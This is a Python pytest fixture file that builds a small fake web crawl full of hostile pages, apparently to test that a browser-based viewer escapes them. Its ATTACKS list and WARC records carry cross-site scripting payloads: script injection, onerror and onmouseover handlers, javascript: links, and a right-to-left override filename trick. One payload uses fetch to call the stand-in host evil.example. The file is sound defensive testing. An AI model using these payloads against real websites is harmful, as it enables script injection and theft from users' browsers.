"""What tests in a real browser share: Chromium itself, and a small crawl with pages that were made to attack whoever looks at them."""

import gzip
import html
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser.chromium import launched, program
from tests.flows.conftest import crawl, lists  # noqa: F401  fixtures
from tests.flows.test_hostile import page

if TYPE_CHECKING:
    from playwright.sync_api import Browser

# Address and text; every text has a script's way to say that it ran, and the host that it would talk to.
ATTACKS = [
    (
        'http://evil.example/"><script>window.hacked=1</script>',
        "<script>window.hacked=1;fetch('http://evil.example/taken')</script>",
    ),
    (
        "http://evil.example/'onmouseover='window.hacked=1",
        "</p></div></main><img src=http://evil.example/x.png onerror=window.hacked=1>",
    ),
    ("javascript:window.hacked=1;alert(1)", "<a href=\"javascript:window.hacked=1\">hacked</a> <svg onload=alert('hacked')>"),
    (
        "http://evil.example/\u202egnp.exe",
        "hacked \u202egnp.exe\u202c </textarea></title><link rel=stylesheet href=//evil.example/x.css>",
    ),
]


def record(number: int, url: str, text: str) -> bytes:
    """A page whose article quotes `text`, as one member of a WARC file; its id tries the same."""
    body = page(5000 + number, f"<p>{html.escape(text)}</p>")
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + body
    head = ["WARC/1.0", "WARC-Type: response", f"WARC-Target-URI: {url}", "WARC-Date: 2026-01-01T00:00:00Z"]
    head += [f"WARC-Record-ID: <urn:{number}:'\"><img src=x onerror=window.hacked=1>", f"Content-Length: {len(answer)}"]
    head += ["Content-Type: application/http; msgtype=response", "", ""]
    return gzip.compress("\r\n".join(head).encode() + answer + b"\r\n\r\n", mtime=0)


@pytest.fixture(scope="session")
def attacked(tmp_path_factory: pytest.TempPathFactory, crawl: Path) -> Path:  # noqa: F811
    """The folder of the small made-up crawl and of the attacks."""
    folder = tmp_path_factory.mktemp("attacked")
    for file in crawl.glob("*.warc.gz"):
        shutil.copy2(file, folder)
    members = [record(number, url, text) for number, (url, text) in enumerate(ATTACKS)]
    (folder / "<img src=x onerror=window.hacked=1>.warc.gz").write_bytes(b"".join(members))
    return folder


@pytest.fixture(scope="module")
def chromium() -> Iterator["Browser"]:
    """For one file of tests, not longer: Playwright holds the thread's event loop."""
    pytest.importorskip("playwright", reason="playwright is missing; install it with `pip install -c constraints.txt playwright`")
    executable = program()
    if executable is None:
        pytest.skip("no Chromium was found; install it with `apt-get install chromium`, or put one named `chromium` on the path")
    with launched(executable) as browser:
        yield browser
